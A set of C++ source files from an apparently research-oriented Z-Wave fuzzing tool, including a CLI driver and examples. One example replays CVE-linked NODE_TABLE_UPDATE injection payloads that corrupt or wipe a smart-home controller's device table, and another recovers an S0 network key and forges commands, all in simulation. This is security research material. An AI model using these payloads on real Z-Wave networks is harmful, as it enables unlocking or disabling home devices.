  return 0;
}

int cmd_scan(const Options& options) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = options.device;
  testbed_config.seed = options.seed;
  sim::Testbed testbed(testbed_config);
  core::Campaign campaign(testbed, core::CampaignConfig{});
  const auto report = campaign.fingerprint();

  std::printf("target        : %s\n", sim::device_model_name(options.device));
  std::printf("home id       : %08X\n", report.passive.home_id.value_or(0));
  std::printf("controller id : 0x%02X\n", report.passive.controller.value_or(0));
  std::printf("listed CMDCLs : %zu\n", report.active.listed.size());
  std::printf("unknown       : %zu (%zu spec-derived + %zu proprietary)\n",
              report.discovery.unknown().size(), report.discovery.spec_candidates.size(),
              report.discovery.proprietary.size());
  std::printf("fuzz queue    :");
  for (auto cc : report.fuzz_queue) std::printf(" %02X", cc);
  std::printf("\n");
  return 0;
}

int cmd_fuzz(const Options& options) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = options.device;
  testbed_config.seed = options.seed;
  sim::Testbed testbed(testbed_config);

  core::CampaignConfig config;
  config.mode = options.mode;
  config.duration = static_cast<SimTime>(options.hours * static_cast<double>(kHour));
  config.seed = options.seed;
  config.loop_queue = false;
  config.dedup = options.dedup;
  config.liveness_stride = options.liveness_stride;

  if (!options.resume_path.empty()) {
    auto checkpoint = core::read_checkpoint_file(options.resume_path);
    if (!checkpoint) {
      std::fprintf(stderr, "%s is missing or not a valid zcover checkpoint\n",
                   options.resume_path.c_str());
      return 1;
    }
    // The checkpoint pins mode and seed: a resumed campaign must replay the
    // exact run that was interrupted.
    config.mode = checkpoint->mode;
    config.seed = checkpoint->seed;
    std::printf("resuming from %s: %s after %s, %zu findings so far\n",
                options.resume_path.c_str(), core::campaign_mode_name(checkpoint->mode),
                format_sim_time(checkpoint->elapsed).c_str(), checkpoint->findings.size());
    config.resume_from = std::move(*checkpoint);
  }
  if (!options.checkpoint_path.empty()) {
    // A previous crash may have left a half-written temp next to the real
    // checkpoint; it can never be resumed from, so clear it up front.
    core::remove_stale_checkpoint_tmp(options.checkpoint_path);
    config.checkpoint_interval = 5 * kMinute;
    config.checkpoint_sink = [&options](const core::CampaignCheckpoint& cp) {
      // Atomic tmp+rename: a kill mid-write leaves the previous complete
      // snapshot in place instead of a truncated file --resume rejects.
      if (!core::write_checkpoint_file(options.checkpoint_path, cp)) {
        std::fprintf(stderr, "cannot write %s\n", options.checkpoint_path.c_str());
      }
    };
  }

  store::FindingsJournal journal;
  if (maybe_open_journal(options.journal_path, journal)) config.journal = &journal;
  config.abort_hook = [] { return g_signal != 0; };

  core::Campaign campaign(testbed, config);
  std::optional<obs::Recorder> recorder;
  std::optional<obs::ScopedRecorder> ambient;
  if (options.telemetry()) {
    recorder.emplace(testbed.scheduler(), /*shard_id=*/0, config.seed);
    ambient.emplace(*recorder);
  }
  const auto result = campaign.run();
  ambient.reset();
  if (journal.is_open()) journal.flush();
  if (g_signal != 0) {
    std::printf("interrupted by signal %d: %llu packets in, state flushed\n",
                static_cast<int>(g_signal),
                static_cast<unsigned long long>(result.test_packets));
  }

  std::printf("%s on %s: %llu packets over %s, %zu unique findings\n",
              core::campaign_mode_name(config.mode),
              sim::device_model_name(options.device),
              static_cast<unsigned long long>(result.test_packets),
              format_sim_time(result.ended_at - result.started_at).c_str(),
              result.findings.size());
  for (const auto& finding : result.findings) {
    std::printf("  bug#%02d %-20s %s\n", finding.matched_bug_id,
                core::detection_kind_name(finding.kind),
                to_hex_spaced(finding.payload).c_str());
  }

  if (!options.log_path.empty()) {
    std::ofstream out(options.log_path);
    if (!out) {
      std::fprintf(stderr, "cannot write %s\n", options.log_path.c_str());
      return 1;
    }
    out << core::serialize_bug_log(result.findings);
    std::printf("bug log written to %s\n", options.log_path.c_str());
  }
  if (!options.report_path.empty()) {
    std::ofstream out(options.report_path);
    if (!out) {
      std::fprintf(stderr, "cannot write %s\n", options.report_path.c_str());
      return 1;
    }
    out << core::render_markdown_report(result, options.device);
    std::printf("assessment report written to %s\n", options.report_path.c_str());
  }
  if (recorder.has_value()) {
    const obs::Telemetry telemetry = recorder->snapshot();
    if (!options.trace_path.empty()) {
      std::string jsonl;
      telemetry.append_jsonl(jsonl);
      if (!write_text_file(options.trace_path, jsonl, "event trace")) return 1;
    }
    if (!options.metrics_path.empty() &&
        !write_text_file(options.metrics_path, telemetry.metrics.to_json(), "metrics")) {
      return 1;
    }
    std::fputs(telemetry.metrics.summary_table().c_str(), stdout);
  }
  print_profile_if_enabled();
  return exit_code_for_signal();
}

int cmd_trials(const Options& options) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = options.device;
  testbed_config.seed = options.seed;

  core::CampaignConfig config;
  config.mode = options.mode;
  config.duration = static_cast<SimTime>(options.hours * static_cast<double>(kHour));
  config.seed = options.seed;
  config.loop_queue = false;
  config.dedup = options.dedup;
  config.liveness_stride = options.liveness_stride;

  core::ParallelConfig parallel;
  parallel.jobs = options.jobs;
  parallel.collect_telemetry = options.telemetry();
  parallel.restart.max_restarts = options.max_shard_restarts;
  parallel.shard_deadline = std::chrono::milliseconds(
      static_cast<std::int64_t>(options.shard_deadline_seconds * 1000.0));
  parallel.abort_hook = [] { return g_signal != 0; };
  parallel.fuzzer = options.fuzzer;
  const bool cov_mode = options.fuzzer == core::FuzzerFamily::kCov;
  if (cov_mode) {
    parallel.covfuzz.dedup = options.dedup;
    parallel.covfuzz.coverage_feedback = options.coverage;
    if (!options.corpus_dir.empty()) {
      parallel.covfuzz.extra_seeds = core::CovFuzz::load_corpus(options.corpus_dir);
      if (!parallel.covfuzz.extra_seeds.empty()) {
        std::printf("corpus %s: %zu seed(s) loaded\n", options.corpus_dir.c_str(),
                    parallel.covfuzz.extra_seeds.size());
      }
    }
  }
  store::FindingsJournal journal;
  if (maybe_open_journal(options.journal_path, journal)) parallel.journal = &journal;
  if (!options.checkpoint_path.empty()) {
    parallel.checkpoint_interval = 5 * kMinute;
    parallel.checkpoint_sink = [&options](std::size_t shard_id,
                                          const core::CampaignCheckpoint& cp) {
      const std::string path =
          options.checkpoint_path + ".shard" + std::to_string(shard_id);
      if (!core::write_checkpoint_file(path, cp)) {
        std::fprintf(stderr, "cannot write %s\n", path.c_str());
      }
    };
  }

  std::vector<sim::DeviceModel> devices;
  if (options.all_devices) {
    const auto all = sim::all_controller_models();
    devices.assign(all.begin(), all.end());
  } else {
    devices.push_back(options.device);
  }

  if (!options.checkpoint_path.empty()) {
    // One stale-temp sweep covers every shard file a crashed run left.
    for (std::size_t shard = 0; shard < devices.size() * options.trials; ++shard) {
      core::remove_stale_checkpoint_tmp(options.checkpoint_path + ".shard" +
                                        std::to_string(shard));
    }
  }

  const core::ParallelTrialReport report =
      options.all_devices
          ? core::run_profiles_parallel(devices, testbed_config, config, options.trials,
                                        parallel)
          : core::run_trials_parallel(testbed_config, config, options.trials, parallel);

  std::printf("%zu shard(s) on %zu thread(s): %.2f s wall, %.2f trials/s\n",
              report.shards.size(), report.jobs, report.wall_seconds,
              report.wall_seconds > 0.0
                  ? static_cast<double>(report.shards.size()) / report.wall_seconds
                  : 0.0);
  for (const core::ShardResult& shard : report.shards) {
    std::printf("  shard %-3zu %-24s seed=%llu packets=%llu findings=%zu",
                shard.shard_id, sim::device_model_name(shard.device),
                static_cast<unsigned long long>(shard.campaign_seed),
                static_cast<unsigned long long>(shard.result.test_packets),
                shard.result.findings.size());
    if (shard.coverage_collected) {
      std::printf(" edges=%zu corpus=%zu", shard.coverage.edges_hit(), shard.corpus.size());
    }
    if (shard.health != core::ShardHealth::kHealthy) {
      std::printf("  [%s after %zu restart(s)%s%s]", core::shard_health_name(shard.health),
                  shard.restarts, shard.last_error.empty() ? "" : ": ",
                  shard.last_error.c_str());
    }
    std::printf("\n");
  }
  std::printf("union of confirmed bugs: %zu, total packets: %llu, "
              "inconclusive: %llu, recoveries: %zu\n",
              report.summary.union_bug_ids.size(),
              static_cast<unsigned long long>(report.summary.total_packets),
              static_cast<unsigned long long>(report.inconclusive_tests),
              report.recovery_episodes);
  if (!report.degraded_shards.empty()) {
    std::printf("DEGRADED: %zu shard(s) quarantined and excluded from the summary:",
                report.degraded_shards.size());
    for (std::size_t id : report.degraded_shards) std::printf(" %zu", id);
    std::printf("\n");
  }
  if (cov_mode && options.coverage) {
    const std::vector<Bytes> corpus = report.merged_corpus();
    std::printf("coverage: %zu edge(s) hit, merged corpus: %zu payload(s)\n",
                report.merged_coverage().edges_hit(), corpus.size());
    if (!options.corpus_dir.empty()) {
      if (core::CovFuzz::save_corpus(options.corpus_dir, corpus)) {
        std::printf("corpus written to %s\n", options.corpus_dir.c_str());
      } else {
        std::fprintf(stderr, "cannot write corpus to %s\n", options.corpus_dir.c_str());
      }
    }
  }
  if (journal.is_open()) {
    journal.flush();
    std::printf("journal: %zu total records at %s\n", journal.records().size(),
                journal.path().c_str());
  }
  if (options.telemetry()) {
    if (!options.trace_path.empty() &&
        !write_text_file(options.trace_path, report.merged_trace_jsonl(), "event trace")) {
      return 1;
    }
    const obs::MetricsRegistry merged = report.merged_metrics();
    if (!options.metrics_path.empty() &&
        !write_text_file(options.metrics_path, merged.to_json(), "metrics")) {
      return 1;
    }
    std::fputs(merged.summary_table().c_str(), stdout);
  }
  print_profile_if_enabled();
  return exit_code_for_signal();
}

int cmd_minimize(const Options& options) {
  if (options.log_path.empty()) {
    std::fprintf(stderr, "minimize needs --log FILE\n");
    return 2;
  }
  std::ifstream in(options.log_path);
  if (!in) {
    std::fprintf(stderr, "cannot read %s\n", options.log_path.c_str());
    return 1;
  }
  std::stringstream buffer;
  buffer << in.rdbuf();
  const auto log = core::parse_bug_log(buffer.str());

  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = options.device;
  sim::Testbed testbed(testbed_config);
  core::PacketTester tester(testbed);

  for (const auto& entry : log) {
    const Bytes minimal = tester.minimize(entry);
    std::printf("bug#%-3d %-30s -> %s%s\n", entry.bug_id,
                to_hex_spaced(entry.payload).c_str(), to_hex_spaced(minimal).c_str(),
                minimal.size() < entry.payload.size() ? "  (shrunk)" : "");
  }
  return 0;
}

int cmd_replay(const Options& options) {
  if (options.log_path.empty()) {
    std::fprintf(stderr, "replay needs --log FILE\n");
    return 2;
  }
  std::ifstream in(options.log_path);
  if (!in) {
    std::fprintf(stderr, "cannot read %s\n", options.log_path.c_str());
    return 1;
  }
  std::stringstream buffer;
  buffer << in.rdbuf();
  std::size_t rejected = 0;
  const auto log = core::parse_bug_log(buffer.str(), &rejected);
  std::printf("loaded %zu entries (%zu rejected lines)\n", log.size(), rejected);

  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = options.device;
  testbed_config.seed = options.seed;
  sim::Testbed testbed(testbed_config);
  core::PacketTester tester(testbed);

  std::size_t reproduced = 0;
  for (const auto& result : tester.replay_all(log)) {
    if (result.reproduced) ++reproduced;
    std::printf("  %-28s bug#%-3d %s\n", to_hex_spaced(result.entry.payload).c_str(),
                result.entry.bug_id, result.reproduced ? "REPRODUCED" : "did not reproduce");
  }
  std::printf("%zu/%zu reproduced\n", reproduced, log.size());
  return reproduced == log.size() ? 0 : 1;
}

/// Build provenance + active accelerator backends: what exactly is
/// running, on what, selected how. The SIMD ISA and AES backend lines
/// reflect runtime dispatch, not compile flags — what this process will
/// actually execute.
int cmd_version() {
  std::printf("zcover %s (%s)\n", build_version(), build_git_describe());
  std::printf("  build   : %s\n", build_type()[0] != '\0' ? build_type() : "unspecified");
  std::printf("  simd    : %s\n", radio::simd::isa_name(radio::simd::active_isa()));
  std::printf("  aes     : %s\n", crypto::aes_backend_name(crypto::active_aes_backend()));
  return 0;
}

/// The long-lived campaign service: a JobManager over the shared executor
/// fronted by the line-protocol server. Runs until SIGINT/SIGTERM or a
/// client's shutdown op, then drains cooperatively — every running job is
/// stopped at its next packet boundary and checkpointed, staged findings
/// are committed, the journal is flushed.
int cmd_serve(const Options& options) {
  store::FindingsJournal journal;
  const bool journaled = maybe_open_journal(options.journal_path, journal);

  obs::MetricsRegistry metrics;  // daemon-level svc.*/executor.* registry

  svc::JobManager::Config manager_config;
  manager_config.max_parallel_jobs = std::max<std::size_t>(1, options.max_jobs);
  manager_config.executor_workers = options.jobs;
  manager_config.journal = journaled ? &journal : nullptr;
  manager_config.checkpoint_dir = options.checkpoint_dir;
  manager_config.metrics = &metrics;
  manager_config.restart.max_restarts = options.max_shard_restarts;
  svc::JobManager jobs(manager_config);

  std::atomic<bool> shutdown_requested{false};
  svc::Server::Config server_config;
  server_config.host = options.listen.host;
  server_config.port = options.listen.port;
  server_config.jobs = &jobs;
  server_config.metrics = &metrics;
  server_config.on_shutdown_request = [&shutdown_requested] {
    shutdown_requested.store(true);
  };
  svc::Server server(server_config);

  std::string error;
  if (!server.start(&error)) {
    std::fprintf(stderr, "zc serve: %s\n", error.c_str());
    return 1;
  }
  std::printf("zc serve: listening on %s:%u (max %zu concurrent jobs%s)\n",
              options.listen.host.c_str(), static_cast<unsigned>(server.port()),
              manager_config.max_parallel_jobs, journaled ? ", journal on" : "");
  std::fflush(stdout);

  while (g_signal == 0 && !shutdown_requested.load()) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  std::printf("zc serve: draining (%s)...\n",
              shutdown_requested.load() ? "shutdown op" : "signal");

  const std::vector<svc::RecoveredJob> recovered = jobs.shutdown_and_checkpoint();
  server.stop();
  for (const svc::RecoveredJob& job : recovered) {
    std::printf("  %s parked (%zu checkpoint(s)%s)\n", job.id.c_str(),
                job.checkpoints.size(),
                options.checkpoint_dir.empty() ? "" : ", written to disk");
  }
  if (journal.is_open()) {
    journal.flush();
    std::printf("journal: %zu total records at %s\n", journal.records().size(),
                journal.path().c_str());
  }
  return shutdown_requested.load() ? 0 : exit_code_for_signal();
}

/// Shared preamble of every client command: connect or die.
void connect_or_exit(svc::Client& client, const Options& options) {
  std::string error;
  if (!client.connect(options.connect.host, options.connect.port, &error)) {
    std::fprintf(stderr, "cannot reach %s:%u: %s\n", options.connect.host.c_str(),
                 static_cast<unsigned>(options.connect.port), error.c_str());
    std::exit(1);
  }
}

/// One request, one response line, printed raw (the protocol is JSON —
/// operators pipe it into jq). Exit 0 iff the daemon said ok.
int client_roundtrip(const Options& options, const std::string& line) {
  svc::Client client;
  connect_or_exit(client, options);
  std::string response;
  if (!client.request(line, &response)) {
    std::fprintf(stderr, "connection lost\n");
    return 1;
  }
  std::printf("%s\n", response.c_str());
  return response.rfind("{\"ok\":true", 0) == 0 ? 0 : 1;
}

std::string require_job(const Options& options) {
  if (options.job.empty()) {
    std::fprintf(stderr, "%s needs --job JOB-ID\n", options.command.c_str());
    std::exit(2);
  }
  return options.job;
}

int cmd_submit(const Options& options) {
  svc::JobSpec spec;
  spec.device = options.device;
  spec.fuzzer = core::fuzzer_family_name(options.fuzzer);
  spec.seed = options.seed;
  spec.trials = options.trials;
  spec.duration_ms = options.duration_ms;
  spec.telemetry = options.svc_telemetry;
  spec.name = options.job_name;
  return client_roundtrip(options, svc::encode_submit(spec));
}

int cmd_watch(const Options& options) {
  const std::string job = require_job(options);
  svc::Client client;
  connect_or_exit(client, options);
  if (!client.send_line(svc::encode_job_op(svc::Op::kWatch, job))) {
    std::fprintf(stderr, "connection lost\n");
    return 1;
  }
  // Stream everything — the ack, replayed history, live events — until
  // the terminal event arrives or the daemon goes away.
  std::string line;
  while (client.recv_line(&line)) {
    std::printf("%s\n", line.c_str());
    std::fflush(stdout);
    if (line.rfind("{\"ok\":false", 0) == 0) return 1;
    const std::optional<svc::JsonValue> event = svc::parse_json(line);
    if (event.has_value()) {
      const svc::JsonValue* type = event->find("event");
      if (type != nullptr && type->string_value == "done") return 0;
    }
    if (g_signal != 0) return exit_code_for_signal();
  }
  std::fprintf(stderr, "connection lost\n");
  return 1;
}

int cmd_status(const Options& options) {
  return client_roundtrip(options, options.job.empty()
                                       ? svc::encode_simple(svc::Op::kStatus)
                                       : svc::encode_job_op(svc::Op::kStatus, options.job));
}

int cmd_pause(const Options& options) {
  return client_roundtrip(options, svc::encode_job_op(svc::Op::kPause, require_job(options)));
}

int cmd_resume(const Options& options) {
  return client_roundtrip(options, svc::encode_resume(require_job(options), options.resume_mode));
}

int cmd_cancel(const Options& options) {
  return client_roundtrip(options, svc::encode_job_op(svc::Op::kCancel, require_job(options)));
}

int cmd_stats(const Options& options) {
  return client_roundtrip(options, svc::encode_simple(svc::Op::kStats));
}

int cmd_ping(const Options& options) {
  return client_roundtrip(options, svc::encode_simple(svc::Op::kPing));
}

int cmd_shutdown(const Options& options) {
  return client_roundtrip(options, svc::encode_simple(svc::Op::kShutdown));
}

}  // namespace

int main(int argc, char** argv) {
  install_signal_handlers();
  const Options options = parse_options(argc, argv);
  if (options.command == "list") return cmd_list();
  if (options.command == "scan") return cmd_scan(options);
  if (options.command == "fuzz") return cmd_fuzz(options);
  if (options.command == "trials") return cmd_trials(options);
  if (options.command == "replay") return cmd_replay(options);
  if (options.command == "minimize") return cmd_minimize(options);
  if (options.command == "version") return cmd_version();
  if (options.command == "serve") return cmd_serve(options);
  if (options.command == "submit") return cmd_submit(options);
  if (options.command == "status") return cmd_status(options);
  if (options.command == "watch") return cmd_watch(options);
  if (options.command == "pause") return cmd_pause(options);
  if (options.command == "resume") return cmd_resume(options);
  if (options.command == "cancel") return cmd_cancel(options);
  if (options.command == "stats") return cmd_stats(options);
  if (options.command == "ping") return cmd_ping(options);
  if (options.command == "shutdown") return cmd_shutdown(options);
  std::fprintf(stderr, "unknown command '%s'\n", options.command.c_str());
  return 2;
}
