// Quickstart: point ZCover at a Z-Wave controller and fuzz it.
//
// Builds the simulated smart-home testbed (an Aeotec ZW090-A controller
// with an S2 door lock and a legacy switch), runs the full three-phase
// pipeline — known-properties fingerprinting, unknown-properties
// discovery, position-sensitive fuzzing — and prints what it found.
//
//   $ ./quickstart [hours-of-fuzzing]
#include <cstdio>
#include <cstdlib>

#include "core/campaign.h"

int main(int argc, char** argv) {
  using namespace zc;

  const double hours = argc > 1 ? std::atof(argv[1]) : 1.0;

  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);

  std::printf("=== ZCover quickstart ===\n");
  std::printf("target : %s (chip series %s, %d)\n",
              sim::device_model_name(testbed.controller().model()),
              std::string(testbed.controller().profile().chip_series).c_str(),
              testbed.controller().profile().year);
  std::printf("testbed: + %s, + %s\n\n",
              sim::device_model_name(sim::DeviceModel::kD8_SchlageLock),
              sim::device_model_name(sim::DeviceModel::kD9_GeSwitch));

  core::CampaignConfig config;
  config.mode = core::CampaignMode::kFull;
  config.duration = static_cast<SimTime>(hours * static_cast<double>(kHour));
  config.loop_queue = false;

  core::Campaign campaign(testbed, config);
  const auto result = campaign.run();

  const auto& fp = result.fingerprint;
  std::printf("-- phase 1: known properties fingerprinting --\n");
  std::printf("home id        : %08X\n", fp.passive.home_id.value_or(0));
  std::printf("nodes observed : %zu\n", fp.passive.node_ids.size());
  for (const auto& [node, observation] : fp.passive.observations) {
    if (observation.frames_sent == 0) continue;
    std::printf("  node %-3u %-13s (%zu frames%s%s)\n", node,
                core::node_role_name(observation.role), observation.frames_sent,
                observation.uses_s2 ? ", S2" : "", observation.uses_s0 ? ", S0" : "");
  }
  std::printf("listed CMDCLs  : %zu (via NIF)\n\n", fp.active.listed.size());

  std::printf("-- phase 2: unknown properties discovery --\n");
  std::printf("spec-derived unlisted candidates : %zu\n", fp.discovery.spec_candidates.size());
  std::printf("proprietary classes (validation) : %zu  [", fp.discovery.proprietary.size());
  for (auto cc : fp.discovery.proprietary) std::printf(" 0x%02X", cc);
  std::printf(" ]\n");
  std::printf("prioritized fuzz queue           : %zu classes\n\n", fp.fuzz_queue.size());

  std::printf("-- phase 3: position-sensitive fuzzing --\n");
  std::printf("test packets  : %llu\n", static_cast<unsigned long long>(result.test_packets));
  std::printf("virtual time  : %s\n", format_sim_time(result.ended_at - result.started_at).c_str());
  std::printf("unique findings: %zu\n\n", result.findings.size());

  for (const auto& finding : result.findings) {
    std::printf("  bug#%02d  cc=0x%02X cmd=0x%02X  %-20s at %-10s payload=%s\n",
                finding.matched_bug_id, finding.cmd_class, finding.command,
                core::detection_kind_name(finding.kind),
                format_sim_time(finding.detected_at).c_str(),
                to_hex_spaced(finding.payload).c_str());
  }

  std::printf("\ncontroller after the campaign:\n%s\n",
              testbed.controller().node_table().render().c_str());
  return 0;
}
