// The paper's attack scenario (Fig. 2 and the Fig. 8-11 proof-of-concept
// chain), replayed step by step against the simulated smart home.
//
// An attacker 70 meters outside the house sniffs the S2-protected network,
// learns the home id, and — without any keys — injects four unencrypted
// NODE_TABLE_UPDATE payloads that corrupt, fake, delete, and finally
// overwrite the controller's device database. After each injection the
// controller's node table ("the PC-controller UI view") is printed.
#include <cstdio>

#include "core/dongle.h"
#include "core/scanner.h"
#include "sim/testbed.h"

namespace {

void show_table(const char* title, const zc::sim::VirtualController& controller) {
  std::printf("---- %s ----\n%s\n", title, controller.node_table().render().c_str());
}

}  // namespace

int main() {
  using namespace zc;

  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD6_SamsungWv520;  // SmartThings hub
  config.attacker_distance_m = 70.0;  // the far end of the paper's range
  sim::Testbed testbed(config);
  auto& controller = testbed.controller();

  std::printf("=== Z-Wave smart home under attack (paper Figs. 2, 8-11) ===\n\n");
  std::printf("home: %s + S2 door lock + legacy switch\n",
              sim::device_model_name(controller.model()));
  std::printf("attacker: SDR dongle at %.0f m, no keys, no network membership\n\n",
              config.attacker_distance_m);

  core::ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                           testbed.attacker_radio_config("attacker-dongle"));

  // Step 1 (Fig. 2 (1)): scan all Z-Wave network traffic.
  core::PassiveScanner passive(dongle);
  const auto scan = passive.scan(90 * kSecond, /*min_packets=*/4);
  std::printf("[sniff] home id %08X recovered from %zu packets (S2 hides only the payload)\n\n",
              scan.home_id.value_or(0), scan.packets_analyzed);
  const zwave::HomeId home = *scan.home_id;

  show_table("controller memory before the attack", controller);

  auto inject = [&](const char* what, Bytes params) {
    zwave::AppPayload payload;
    payload.cmd_class = 0x01;  // proprietary network-management class
    payload.command = 0x0D;    // NODE_TABLE_UPDATE
    payload.params = std::move(params);
    std::printf(">>> inject %s  [payload %s]\n", what,
                to_hex_spaced(payload.encode()).c_str());
    dongle.send_app(home, 0xE7, 0x01, payload);
    dongle.run_for(200 * kMillisecond);
  };

  // Fig. 8 — bug #01: the S2 smart lock's stored type silently becomes
  // "routing slave"; its security class evaporates.
  inject("memory corruption of lock properties (CVE-2024-50929)",
         {0x00, sim::Testbed::kLockNodeId, 0x00});
  show_table("after corruption (Fig. 8)", controller);

  // Fig. 9 — bug #02: rogue controllers appear as IDs #10 and #200.
  inject("rogue controller insertion, node 10 (CVE-2024-50920)", {0x01, 10, 0x00});
  inject("rogue controller insertion, node 200 (CVE-2024-50920)", {0x01, 200, 0x00});
  show_table("after rogue insertion (Fig. 9)", controller);

  // Fig. 10 — bug #03: remove the real devices.
  inject("removal of the smart lock (CVE-2024-50931)",
         {0x02, sim::Testbed::kLockNodeId, 0x00});
  inject("removal of the smart switch (CVE-2024-50931)",
         {0x02, sim::Testbed::kSwitchNodeId, 0x00});
  show_table("after removal (Fig. 10)", controller);

  // Fig. 11 — bug #04: overwrite the whole database.
  inject("database overwrite (CVE-2024-50930)", {0x03, 0x00, 0x00});
  show_table("after database overwrite (Fig. 11)", controller);

  // Fig. 2 (5)/(6): the homeowner tries to lock the door via the app.
  std::printf("[homeowner] Command:Lock via smartphone app ... ");
  const bool lock_known = controller.node_table().find(sim::Testbed::kLockNodeId) != nullptr;
  if (!lock_known || !controller.cloud_control_available()) {
    std::printf("Command fail! (controller no longer knows the lock)\n");
  } else {
    std::printf("ok\n");
  }

  std::printf("\nground truth: %zu vulnerability triggers recorded by the device\n",
              controller.triggered().size());
  return 0;
}
