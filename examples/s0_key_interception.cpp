// The S0 inclusion weakness (paper §II-A1): "Security 0 uses AES-128
// encryption but is susceptible to MITM attacks due to a fixed temporary
// key during key exchange."
//
// This example replays that attack against the real S0 implementation in
// src/zwave/security.h:
//   1. a controller includes a legacy S0 device and ships the network key
//      inside a NETWORK_KEY_SET encapsulated under the *all-zero temp key*;
//   2. a passive attacker sniffs the exchange, decapsulates it with the
//      same well-known temp key, and recovers the network key;
//   3. from then on the attacker decrypts live S0 traffic and forges a
//      valid encapsulated command of their own.
#include <cstdio>

#include "core/dongle.h"
#include "crypto/ctr.h"
#include "sim/testbed.h"
#include "zwave/security.h"

int main() {
  using namespace zc;

  sim::TestbedConfig config;
  config.include_slaves = false;  // we script the S0 pair ourselves
  sim::Testbed testbed(config);
  auto& scheduler = testbed.scheduler();
  const zwave::HomeId home = testbed.controller().home_id();

  // The S0 pair: controller side (node 1) and a legacy wall plug (node 9).
  radio::MacEndpoint plug(testbed.medium(),
                          radio::RadioConfig{"s0-plug", zwave::RfRegion::kUs908, 5, 1, 0});
  radio::MacEndpoint include_side(
      testbed.medium(), radio::RadioConfig{"inclusion", zwave::RfRegion::kUs908, 0, 0, 0});

  // The attacker's sniffer, outside the house.
  core::ZWaveDongle sniffer(testbed.medium(), scheduler,
                            testbed.attacker_radio_config("sniffer"));
  sniffer.start_capture();

  std::printf("=== S0 network-key interception (paper SII-A1) ===\n\n");

  // --- Step 1: inclusion. The real network key, shipped under the temp key.
  crypto::AesKey network_key{};
  for (std::size_t i = 0; i < network_key.size(); ++i) {
    network_key[i] = static_cast<std::uint8_t>(0xA0 + i);
  }

  const zwave::S0Session temp_session(zwave::s0_temp_key());
  crypto::CtrDrbg controller_drbg(Bytes(32, 0x11));
  crypto::CtrDrbg plug_drbg(Bytes(32, 0x22));

  // NONCE_GET/REPORT then the encapsulated NETWORK_KEY_SET (0x98/0x06).
  zwave::S0Session plug_temp_session(zwave::s0_temp_key());
  const Bytes plug_nonce = plug_temp_session.make_nonce(plug_drbg);

  zwave::AppPayload key_set;
  key_set.cmd_class = zwave::kSecurity0Class;
  key_set.command = 0x06;  // NETWORK_KEY_SET
  key_set.params.assign(network_key.begin(), network_key.end());
  const zwave::AppPayload key_exchange =
      temp_session.encapsulate(key_set, 0x01, 0x09, plug_nonce, controller_drbg);

  include_side.send(zwave::make_singlecast(home, 0x01, 0x09, key_exchange, 1, true));
  scheduler.run_for(100 * kMillisecond);
  std::printf("[inclusion] NETWORK_KEY_SET sent under the all-zero temp key\n");

  // --- Step 2: the attacker decapsulates with the public temp key.
  crypto::AesKey stolen_key{};
  bool recovered = false;
  for (const auto& captured : sniffer.captures()) {
    if (!captured.frame.has_value()) continue;
    const auto app = zwave::decode_app_payload(captured.frame->payload);
    if (!app.ok() || app.value().cmd_class != zwave::kSecurity0Class ||
        app.value().command != zwave::kS0MessageEncap) {
      continue;
    }
    const zwave::S0Session attacker_temp(zwave::s0_temp_key());
    const auto inner = attacker_temp.decapsulate(app.value(), captured.frame->src,
                                                 captured.frame->dst, plug_nonce);
    if (inner.ok() && inner.value().command == 0x06 &&
        inner.value().params.size() == stolen_key.size()) {
      std::copy(inner.value().params.begin(), inner.value().params.end(),
                stolen_key.begin());
      recovered = true;
    }
  }
  std::printf("[attacker ] network key recovered: %s\n", recovered ? "YES" : "no");
  if (!recovered) return 1;
  std::printf("[attacker ] key = %s\n",
              to_hex(ByteView(stolen_key.data(), stolen_key.size())).c_str());
  const bool key_matches = stolen_key == network_key;
  std::printf("[check    ] matches the real network key: %s\n\n",
              key_matches ? "YES" : "no");

  // --- Step 3: forge a valid S0 command with the stolen key.
  const zwave::S0Session real_session(network_key);      // the home's session
  const zwave::S0Session attacker_session(stolen_key);   // the attacker's copy
  crypto::CtrDrbg attacker_drbg(Bytes(32, 0x66));
  crypto::CtrDrbg victim_drbg(Bytes(32, 0x77));

  const Bytes victim_nonce = zwave::S0Session(network_key).make_nonce(victim_drbg);
  zwave::AppPayload off;
  off.cmd_class = 0x25;  // SWITCH_BINARY SET
  off.command = 0x01;
  off.params = {0x00};
  const zwave::AppPayload forged =
      attacker_session.encapsulate(off, 0xE7, 0x09, victim_nonce, attacker_drbg);

  const auto accepted = real_session.decapsulate(forged, 0xE7, 0x09, victim_nonce);
  std::printf("[forgery  ] S0 device accepts the attacker's encapsulation: %s\n",
              accepted.ok() ? "YES (lights out)" : "no");
  std::printf("\nconclusion: S0's fixed temp key turns one sniffed inclusion into full "
              "network compromise;\nS2's ECDH agreement (see tests/zwave/security_test.cpp) "
              "closes exactly this hole.\n");
  return accepted.ok() && key_matches && recovered ? 0 : 1;
}
