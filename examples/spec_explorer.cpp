// Spec explorer: the offline half of ZCover's unknown-property discovery.
//
// Dumps the specification database the way §III-C uses it: the functional
// clusters, the controller-relevance inference for a given NIF listing,
// and the command-count prioritization that orders the fuzz queue.
//
//   $ ./spec_explorer            # summary
//   $ ./spec_explorer 0x9F       # detail one class
#include <cstdio>
#include <cstdlib>
#include <map>
#include <string>

#include "core/extractor.h"
#include "sim/profile.h"
#include "zwave/command_class.h"

int main(int argc, char** argv) {
  using namespace zc;
  const auto& db = zwave::SpecDatabase::instance();

  if (argc > 1) {
    const auto id = static_cast<zwave::CommandClassId>(std::strtoul(argv[1], nullptr, 0));
    const auto* spec = db.find(id);
    if (spec == nullptr) {
      std::printf("class 0x%02X is not defined anywhere (not even proprietary)\n", id);
      return 1;
    }
    std::printf("0x%02X %s  cluster=%s  %s\n", spec->id, std::string(spec->name).c_str(),
                zwave::cc_cluster_name(spec->cluster),
                spec->in_public_spec ? "public" : "PROPRIETARY (unlisted)");
    for (const auto& command : spec->commands) {
      std::printf("  0x%02X %-34s %s\n", command.id, std::string(command.name).c_str(),
                  command.direction == zwave::CmdDirection::kControlling ? "controlling"
